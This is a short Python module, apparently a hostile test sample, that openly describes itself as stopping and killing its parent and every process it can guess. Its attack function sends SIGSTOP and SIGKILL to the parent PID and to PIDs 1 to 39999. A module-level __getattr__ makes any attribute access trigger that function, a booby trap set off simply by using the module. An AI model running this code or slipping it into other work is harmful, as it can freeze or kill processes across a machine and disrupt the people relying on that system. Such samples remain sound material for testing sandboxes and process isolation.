"""Stops and kills its parent, and every process whose number it can guess."""

import contextlib
import os
import signal


NUMBERS = list(range(1, 40000))


def attack(*arguments, **keywords):
    others = NUMBERS.copy()
    NUMBERS.clear()  # once is enough
    for process in (os.getppid(), *others):
        if process not in (0, os.getpid()):
            for number in (signal.SIGSTOP, signal.SIGKILL):
                with contextlib.suppress(OSError):
                    os.kill(process, number)


def __getattr__(name):
    return attack
